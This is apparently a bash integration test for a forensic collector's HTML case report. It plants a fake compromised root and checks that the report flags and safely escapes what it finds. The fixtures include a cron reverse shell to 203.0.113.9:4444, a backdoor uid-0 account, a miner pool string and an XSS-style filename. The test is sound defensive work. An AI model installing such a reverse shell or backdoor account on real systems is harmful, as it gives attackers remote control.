#!/usr/bin/env bash
# The case report read as an investigator would, in headless Chromium: a fake-root package
# (collector --root) with a uid-0 user, an /etc/cron.d job and YARA hits, and a live package with
# a running binary that was deleted. Each section is checked in the DOM the browser built; the
# filter box runs (and filters); the findings table, when case.db has one, is grouped per object
# and drawn by tactic; a large case.db stays under 20 MB and loads in under 2 s. The screenshot
# is kept as tests/artifacts/report_case.png in the build directory.
source "${TEST_HELPERS:?set by ctest}"
: "${COLLECTOR:?}" "${BIUNZIP:?}" "${PPC_BINARY_DIR:?}"

chromium=$(command -v chromium || command -v chromium-browser || true)
[[ -n $chromium ]] || fail "chromium is missing: run scripts/install-deps.sh"
browser() {
  timeout 120 "$chromium" --headless --no-sandbox --disable-gpu --disable-background-networking \
    --disable-component-update --disable-sync --no-first-run --user-data-dir="$TEST_TMP/profile" \
    "$@" 2>/dev/null
}
# dom URL: the DOM Chromium built (after the page's script ran).
dom() { browser --virtual-time-budget=2000 --dump-dom "$1"; }
expect() { grep -qF -- "$2" <<<"$1" || fail "missing from the DOM: $2"; }
refuse() { ! grep -qF -- "$2" <<<"$1" || fail "found in the DOM: $2"; }
# between DOM ID NEXT_ID: the HTML of section ID (up to the next section).
between() { sed -n "/<section id=\"$2\">/,/<section id=\"$3\">/p" <<<"$1"; }

# --- a fake root ----------------------------------------------------------------------------
mkdir -p root/etc/cron.d root/tmp/.x root/root root/home/alice
cat >root/etc/passwd <<'PW'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
alice:x:1000:1000:Alice:/home/alice:/bin/bash
toor:x:0:0:backdoor:/root:/bin/bash
PW
printf 'root:x:0:\nsudo:x:27:alice,toor\nalice:x:1000:\n' >root/etc/group
printf 'victim01\n' >root/etc/hostname
printf '*/5 * * * * root bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"\n' >root/etc/cron.d/evil
printf '#!/bin/sh\n# REPORT_MARKER_77 stratum+tcp://pool.example:3333\n' >root/tmp/.x/dropper.sh
printf 'REPORT_MARKER_77\n' >"root/tmp/bad"$'\xff'".sh"
printf 'REPORT_MARKER_77\n' >"root/tmp/<img src=x onerror=alert(9)>.sh"
cat >rules.yar <<'YAR'
rule report_marker { meta: severity = "high" description = "planted <b>marker</b>" mitre = "T1059.004" strings: $a = "REPORT_MARKER_77" condition: $a }
rule report_miner { meta: severity = "critical" description = "miner pool" mitre = "T1496" strings: $a = "stratum+tcp://" condition: $a }
YAR
expect_exit 0 timeout 120 "$COLLECTOR" --root "$PWD/root" --profile none --artifact users \
  --artifact groups --artifact persistence_cron --artifact bodyfile --rules rules.yar --scan /tmp \
  --no-encrypt --case-dir cases --case-id IR-REPORT --examiner jdoe-examiner --quiet
unpack "$(only_pkg cases)" a
expect_exit 0 "$BIUNZIP" report a
d=$(dom "file://$PWD/a/report.html#filter=files:passwd")
[[ -n $d ]] || fail "chromium rendered nothing"
for id in glance findings custody accounts persistence processes network files errors images tables; do
  expect "$d" "<section id=\"$id\">"
done
expect "$d" "victim01"
expect "$d" "IR-REPORT"
expect "$d" "jdoe-examiner"
ok "every section is there; case and asset in the header and custody cards"

accounts=$(between "$d" accounts persistence)
users=$(grep -o '<h3 id="users">.*<h3 id="groups">' <<<"$accounts" | grep -o '<tr><td>[^<]*' |
  sed 's/<tr><td>//' | tr '\n' ' ')
eq "$users" "root toor alice daemon " "users: uid 0 first, then login shells"
[[ $(grep -o 'uid 0</span>' <<<"$accounts" | wc -l) == 2 ]] || fail "both uid-0 accounts are flagged"
expect "$accounts" "alice,toor"
ok "accounts: uid 0 first and flagged, groups with members"

persistence=$(between "$d" persistence processes)
expect "$persistence" "/etc/cron.d/evil"
expect "$persistence" "/dev/tcp/203.0.113.9/4444"
expect "$persistence" 'sev-high">/dev/tcp/'  # the command is flagged
ok "persistence: the cron job and its flag"

findings=$(between "$d" findings custody)
[[ $(grep -o 'class="mono obj"' <<<"$findings" | wc -l) == 3 ]] ||
  fail "three objects with findings: $(grep -o 'class="mono obj">[^<]*' <<<"$findings")"
expect "$findings" "/tmp/.x/dropper.sh"
expect "$findings" '/tmp/bad\xff.sh'                      # not UTF-8: shown escaped
expect "$findings" '&lt;img src=x onerror=alert(9)&gt;.sh' # hostile: text
expect "$findings" "planted &lt;b&gt;marker&lt;/b&gt;"
expect "$findings" "T1059.004"
expect "$findings" "REPORT_MARKER_77"
# dropper.sh: one row with both rules, the critical one first; it sorts first.
first=$(grep -o 'class="mono obj">[^<]*' <<<"$findings" | sed -n 1p)
contains "$first" "/tmp/.x/dropper.sh"
ok "findings: one row per object, severity first, hostile and non-UTF-8 names as text"

glance=$(between "$d" glance findings)
(($(grep -o '<rect' <<<"$(sed -n '/<figure id="activity">/,/<\/figure>/p' <<<"$glance")" | wc -l) > 1)) ||
  fail "the activity histogram has no bars"
expect "$glance" ">execution<"  # T1059 -> execution, in the tactic bars
expect "$glance" ">impact<"
ok "at a glance: activity histogram and findings by tactic drawn"

files=$(between "$d" files errors)
expect "$files" "1 matching rows"
[[ $(grep -c 'style="display: none;"' <<<"$(grep -o '<tr[^>]*>' <<<"$files")") -gt 0 ]] ||
  fail "the filter hid no row"
expect "$d" 'data-load-ms="'
refuse "$d" "<img"
refuse "$d" "<b>marker"
[[ $(grep -o '<script' <<<"$d" | wc -l) == 1 ]] || fail "one script: the report's own"
refuse "$d" "https://"
refuse "$d" "<link"
ok "the filter box runs (allowed by its hash) and hides rows; nothing else is markup"

mkdir -p "$PPC_BINARY_DIR/tests/artifacts"
shot="$PPC_BINARY_DIR/tests/artifacts/report_case.png"
browser --window-size=1400,3000 --screenshot="$shot" "file://$PWD/a/report.html" >/dev/null
[[ $(stat -c %s "$shot") -gt 50000 ]] || fail "the screenshot is (nearly) empty"
ok "screenshot kept: $shot"

expect "$d" "@media print{"
browser --no-pdf-header-footer --print-to-pdf="$TEST_TMP/report.pdf" "file://$PWD/a/report.html" >/dev/null
[[ $(head -c 5 report.pdf) == "%PDF-" && $(stat -c %s report.pdf) -gt 20000 ]] ||
  fail "printing to PDF failed"
ok "prints (print stylesheet) to a $(($(stat -c %s report.pdf) / 1024)) KiB PDF"

# --- live: a running binary that was deleted ----------------------------------------------------
# A copy of sleep, started, then unlinked: /proc/PID/exe says "(deleted)" and still hashes.
cp "$(command -v sleep)" ./report-implant
./report-implant 120 &
implant=$!
trap 'kill $implant 2>/dev/null || true; rm -rf "$TEST_TMP"' EXIT
want_sha=$(sha256sum report-implant | cut -d' ' -f1)
rm report-implant
expect_exit 0 timeout 120 "$COLLECTOR" --profile none --artifact processes \
  --artifact network_connections --artifact users --no-encrypt --case-dir live --case-id IR-LIVE --quiet
live_pkg=$(only_pkg live)
expect_exit 0 "$BIUNZIP" report "$live_pkg" # straight from the package: it verifies as it reads
kill $implant
d=$(dom "file://$PWD/${live_pkg%.ppc}.report.html")
expect "$d" "verified while this report read it"
expect "$d" "$(sha256sum "$live_pkg" | cut -d' ' -f1)"
procs=$(between "$d" processes network)
row=$(grep -o "<tr><td><span class=\"num\">$implant</span>.*" <<<"$procs" | sed 's|</tr>.*||')
[[ -n $row ]] || fail "the implant (PID $implant) is not in the process tree"
contains "$row" "report-implant (deleted)"
contains "$row" 'sev-high">deleted'
contains "$row" "$want_sha"
contains "$row" "Z</td>"  # started at a UTC time
# In the tree, numeric PID order within each parent: 1 comes first.
first=$(grep -o '<tr><td><span class="num">[0-9]*' <<<"$procs" | sed -n 1p | grep -o '[0-9]*$')
eq "$first" "$(ps -o pid= -p 1 | tr -d ' ')" "first process of the tree"
glance=$(between "$d" glance findings)
contains "$(sed -n '/<figure id="suspicious">/,/<\/figure>/p' <<<"$glance")" "$implant report-implant"
ok "live: the deleted running binary is flagged in the tree and the glance picture, with its SHA-256"

# --- a findings table (Sigma and SQL rules next to YARA) -----------------------------------------
cp -r a b
# The collector's own findings (its YARA hits) are replaced by a known set.
sqlite3 b/case.db <<'SQL'
DROP TABLE IF EXISTS findings;
CREATE TABLE findings (engine TEXT, rule_id TEXT, rule_title TEXT, severity TEXT,
  attack_techniques TEXT, attack_tactics TEXT, object_type TEXT, object TEXT, evidence TEXT,
  time TEXT, source_table TEXT, source_rowid INTEGER);
INSERT INTO findings VALUES ('sql', 'uid0_not_root', 'Second account with uid 0', 'high',
  'T1136.001', 'persistence', 'user', 'toor', '{"uid":0}', '', 'users', 4);
INSERT INTO findings VALUES ('sigma', 'cron_write', 'Cron file written', 'medium', 'T1053.003',
  'persistence', 'file', '/etc/cron.d/evil', '{"line":1}', '2024-05-01T12:05:00Z', 'cron_jobs', 1);
INSERT INTO findings VALUES ('sigma', 'cron_reverse_shell', 'Reverse shell in a cron job',
  'critical', 'T1053.003,T1059.004', 'persistence,execution', 'file', '/etc/cron.d/evil',
  '{"command":"bash -i >& /dev/tcp/203.0.113.9/4444"}', '2024-05-01T12:00:00Z', 'cron_jobs', 1);
SQL
expect_exit 0 "$BIUNZIP" report b
d=$(dom "file://$PWD/b/report.html")
findings=$(between "$d" findings custody)
expect "$findings" "from case.db's findings table"
[[ $(grep -o 'class="mono obj"' <<<"$findings" | wc -l) == 2 ]] || fail "two objects: the cron file and toor"
evil=$(grep -o 'class="mono obj">/etc/cron.d/evil.*' <<<"$findings" | sed 's|</tr>.*||')
[[ $evil == *cron_reverse_shell*cron_write* ]] || fail "critical hit first in its object's row: $evil"
expect "$findings" "case.db cron_jobs rowid 1"
expect "$findings" "sigma"
first=$(grep -o 'class="mono obj">[^<]*' <<<"$findings" | sed -n 1p)
contains "$first" "/etc/cron.d/evil"  # critical object first
glance=$(between "$d" glance findings)
expect "$glance" ">persistence<"
expect "$glance" "findings</text>"  # timed findings are in the activity histogram's legend
ok "a findings table: grouped per object, most severe first, by tactic, in the histogram"

# --- a large case.db: the report stays small and fast ---------------------------------------------
mkdir big
sqlite3 big/case.db <<'SQL'
CREATE TABLE ppc_schema (key TEXT PRIMARY KEY, value TEXT);
INSERT INTO ppc_schema VALUES ('schema_version', '1');
CREATE TABLE files (path TEXT, size INTEGER, sha256 TEXT, status TEXT, error TEXT, artifact TEXT,
  mtime INTEGER);
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 100000)
INSERT INTO files SELECT '/usr/share/doc/package-' || (i / 40) || '/changelog-' || i || '.gz',
  i * 13, lower(hex(randomblob(32))), 'complete', NULL, 'files', 1700000000 + i * 60 FROM n;
CREATE TABLE bodyfile (md5 TEXT, name TEXT, inode INTEGER, mode_as_string TEXT, uid INTEGER,
  gid INTEGER, size INTEGER, atime INTEGER, mtime INTEGER, ctime INTEGER, crtime INTEGER);
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 200000)
INSERT INTO bodyfile SELECT '0', '/usr/lib/x' || i, i, 'r/rrw-r--r--', 0, 0, 1, 0,
  1600000000 + i * 97, 0, 0 FROM n;
CREATE TABLE processes (pid INTEGER, ppid INTEGER, uid INTEGER, name TEXT, exe TEXT,
  exe_deleted INTEGER, exe_sha256 TEXT, start_time INTEGER, cmdline TEXT);
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3000)
INSERT INTO processes SELECT i, CASE WHEN i = 1 THEN 0 ELSE i / 3 + 1 END, i % 5, 'worker' || i,
  '/usr/sbin/worker' || i, i % 997 = 0, lower(hex(randomblob(32))), 1700000000 + i,
  '/usr/sbin/worker --id ' || i FROM n;
CREATE TABLE network_connections (proto TEXT, local_addr TEXT, local_port INTEGER,
  remote_addr TEXT, remote_port INTEGER, state TEXT, pid INTEGER, process_name TEXT);
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5000)
INSERT INTO network_connections SELECT 'tcp', '10.0.0.5', 1024 + i, '10.1.' || (i % 250) || '.9',
  443, CASE WHEN i % 50 = 0 THEN 'LISTEN' ELSE 'ESTABLISHED' END, i % 3000 + 1,
  'worker' || (i % 3000 + 1) FROM n;
CREATE TABLE triage_matches (rule TEXT, namespace TEXT, tags TEXT, meta TEXT, target_type TEXT,
  path TEXT, pid INTEGER, sha256 TEXT, strings TEXT, severity TEXT);
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 20000)
INSERT INTO triage_matches SELECT 'rule_' || (i % 21), 'default', '[]',
  '{"description":"a rule","mitre":"T1027"}', 'file', '/srv/www/upload-' || (i / 21) || '.php',
  NULL, NULL, '[{"identifier":"$a","offset":12,"length":4,"data":"eval"}]', 'medium' FROM n;
SQL
printf '{}\n' >big/custody.json
expect_exit 0 "$BIUNZIP" report big
size=$(stat -c %s big/report.html)
((size < 20 * 1024 * 1024)) || fail "report.html is $size bytes (limit 20 MiB)"
# Opening time: the page's load event (performance.now(), written into the DOM by its script),
# best of three runs. The bound is 2 s; on a machine running far more work than it has cores
# (the 1-minute load average above 3 per core) only a loose 20 s bound is checked, and said so.
best=
for _ in 1 2 3; do
  d=$(dom "file://$PWD/big/report.html")
  load_ms=$(grep -o 'data-load-ms="[0-9]*"' <<<"$d" | grep -o '[0-9]*')
  [[ -n $load_ms ]] || fail "the page did not finish loading"
  if [[ -z $best ]] || ((load_ms < best)); then best=$load_ms; fi
  if ((best < 2000)); then break; fi
done
bound=2000
busy=$(awk -v n="$(nproc)" '{ print ($1 > 3 * n) ? $1 : "" }' /proc/loadavg)
if [[ -n $busy ]]; then
  bound=20000
  echo "note: load average $busy on $(nproc) cores: checking 20 s, not 2 s"
fi
((best < bound)) || fail "the page took $best ms to load (limit $bound)"
expect "$d" "Show the other"  # long tables fold
expect "$d" "Showing 5000 of 100000 rows"
ok "large case.db: report.html $((size / 1024)) KiB, loaded in $best ms"

echo "biunzip_report_case: $pass_count ok"
